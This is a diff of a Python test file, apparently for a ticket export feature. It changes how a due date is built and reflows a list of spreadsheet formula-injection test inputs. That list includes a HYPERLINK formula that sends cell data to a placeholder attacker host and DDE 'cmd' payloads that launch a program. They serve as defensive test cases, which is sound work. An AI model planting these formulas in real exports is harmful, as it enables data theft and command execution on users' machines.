@@ -5,6 +5,7 @@ import io
 import re
 import socket
 import time
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
@@ -79,7 +80,7 @@ def test_filters_search_and_order_are_those_of_the_board(server: Daphne, site: P
 
 
 def test_times_are_told_in_the_users_zone_with_its_distance(server: Daphne, site: People) -> None:
-    due = timezone.make_aware(timezone.datetime(2026, 1, 31, 12, 30))
+    due = datetime(2026, 1, 31, 12, 30, tzinfo=UTC)
     site.ticket(due_at=due)
     prefer(site.alice, time_zone="Europe/Berlin")
     (row,) = exported(server, site.alice)
@@ -90,7 +91,8 @@ def test_times_are_told_in_the_users_zone_with_its_distance(server: Daphne, site
 
 FORMULAS = [
     "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1", "''", "'quoted'",
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
 ]  # fmt: skip
 
 
